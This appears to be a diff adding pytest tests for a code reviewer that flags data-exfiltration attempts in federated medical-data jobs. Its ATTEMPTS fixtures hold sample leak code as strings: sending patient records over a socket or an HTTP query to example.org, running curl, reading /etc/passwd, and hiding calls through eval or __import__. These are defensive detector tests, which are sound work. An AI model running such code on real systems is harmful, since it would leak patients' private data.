@@ -1,0 +1,101 @@
+"""Automatic review: exfiltration attempts are high risk, aggregates and vetted jobs are not."""
+
+from __future__ import annotations
+
+import inspect
+import textwrap
+
+import pytest
+
+from federation import StudyPlan
+from federation.study import medsyft_evaluate, medsyft_train
+from syft_policies import SitePolicy, review_code
+
+ATTEMPTS = {
+    "return the frame": "def f(patients):\n    return patients\n",
+    "head": "def f(patients):\n    return patients.head(10)\n",
+    "iloc slice": "def f(patients):\n    return patients.iloc[:5]\n",
+    "positional slice": "def f(patients):\n    return patients[:5]\n",
+    "to_dict export": "def f(patients):\n    return patients.to_dict()\n",
+    "values": "def f(patients):\n    x = patients.values\n    return {'x': x}\n",
+    "write a file": "def f(patients):\n    patients.to_csv('/tmp/out.csv')\n    return 1\n",
+    "open()": "def f(patients):\n    with open('/tmp/x', 'w') as fh:\n        fh.write('x')\n    return 0\n",
+    "socket": ("def f(patients):\n    import socket\n    s = socket.create_connection(('203.0.113.5', 80))\n"
+               "    s.send(b'x')\n    return 0\n"),
+    "http": ("def f(patients):\n    import urllib.request\n"
+             "    urllib.request.urlopen('http://example.org/?d=' + patients.to_json())\n    return 0\n"),
+    "subprocess": "def f(patients):\n    import subprocess\n    subprocess.run(['curl', 'example.org'])\n    return 0\n",
+    "os.system": "def f(patients):\n    import os\n    os.system('cat /etc/passwd')\n    return 0\n",
+    "eval": "def f(patients):\n    return eval('patients.head()')\n",
+    "exec": "def f(patients):\n    exec('y = 1')\n    return 0\n",
+    "__import__": "def f(patients):\n    return __import__('o' + 's').listdir('/')\n",
+    "obfuscated getattr": "def f(patients):\n    return getattr(patients, 'he' + 'ad')(3)\n",
+    "getattr constant": "def f(patients):\n    return getattr(patients, 'sample')(3)\n",
+    "pickle": "def f(patients):\n    import pickle\n    return pickle.dumps(patients)\n",
+    "print rows": "def f(patients):\n    print(patients.iloc[0])\n    return 0\n",
+    "print frame": "def f(patients):\n    print(patients)\n    return 0\n",
+    "single patient": "def f(patients):\n    return float(patients[patients['Id'] == 'abc']['LAT'].sum())\n",
+    "rows in weights": ("def f(cohort, weights):\n    weights['head.bias'] = cohort.to_numpy()\n"
+                        "    return weights\n"),
+    "rows in weights (store)": ("def f(cohort, weights):\n    w = dict(weights)\n    w['x'] = cohort['age'] * 1.0\n"
+                                "    return w\n"),
+    "tiny cells": "def f(patients):\n    return patients.groupby(['BIRTHDATE', 'ZIP']).size().sum()\n",
+    "per-record array": ("def f(patients):\n    import numpy as np\n    out = np.zeros(len(patients))\n"
+                         "    return float(out.sum())\n"),
+    "record loop": "def f(patients):\n    return [r for r in patients.itertuples()]\n",
+    "list copy": "def f(patients):\n    return list(patients)\n",
+}
+
+BENIGN = {
+    "vetted summary": ("def f(patients, encounters, conditions):\n    from datasites.jobs import cohort_summary\n"
+                       "    return cohort_summary(patients, encounters, conditions, min_cell=10)\n"),
+    "plain aggregate": ("def f(patients):\n    n = len(patients)\n"
+                        "    share = float((patients['GENDER'] == 'F').mean())\n"
+                        "    return {'n': int(n), 'female_share': round(share, 2)}\n"),
+    "mean age": "def f(cohort):\n    return {'mean_age': float(cohort['age'].mean())}\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(ATTEMPTS))
+def test_exfiltration_attempts_are_high_risk(name):
+    report = review_code(ATTEMPTS[name])
+    assert report.risk == "high", f"{name}: {report}"
+    assert all(f.line >= 1 for f in report.findings)
+
+
+def test_there_are_at_least_fifteen_attempts():
+    assert len(ATTEMPTS) >= 15
+
+
+@pytest.mark.parametrize("name", sorted(BENIGN))
+def test_benign_aggregates_are_not_high_risk(name):
+    assert review_code(BENIGN[name]).risk != "high", str(review_code(BENIGN[name]))
+
+
+def test_only_a_vetted_call_is_low_risk():
+    assert review_code(BENIGN["vetted summary"]).risk == "low"
+    submitted = "@sy.syft_function_single_use(patients=a)\n" + BENIGN["vetted summary"]  # as Syft stores it
+    assert review_code(submitted).risk == "low"
+    assert review_code("@evil\n" + BENIGN["vetted summary"]).risk == "medium"
+    assert review_code(BENIGN["plain aggregate"]).risk == "medium"  # fine, but read it
+
+
+def test_study_requests_are_low_risk_with_their_epsilon_cost():
+    plan = StudyPlan(study="review", sites=["a"], rounds=8, epsilon=6.0)
+    source = textwrap.dedent(inspect.getsource(medsyft_train))
+    report = review_code(source, plan=plan.job_plan(), budget_remaining=10.0)
+    assert report.risk == "low" and report.findings == []
+    assert report.epsilon_cost == pytest.approx(plan.planned_epsilon(), rel=1e-6)
+    assert report.budget_after == pytest.approx(10.0 - report.epsilon_cost)
+    assert review_code(textwrap.dedent(inspect.getsource(medsyft_evaluate))).risk == "low"
+    text, page = str(report), report._repr_html_()
+    assert "LOW risk" in text and "epsilon cost" in text and "<table>" in page
+
+
+def test_out_of_policy_dp_parameters_and_budget_are_high_risk():
+    plan = StudyPlan(study="review", sites=["a"], rounds=8, epsilon=6.0)
+    source = textwrap.dedent(inspect.getsource(medsyft_train))
+    strict = review_code(source, plan=plan.job_plan(), site_policy=SitePolicy(max_epsilon=3.0))
+    assert strict.risk == "high" and any("exceeds the site's maximum" in f.message for f in strict.findings)
+    broke = review_code(source, plan=plan.job_plan(), budget_remaining=2.0)
+    assert broke.risk == "high" and any(f.rule == "R012" for f in broke.findings)
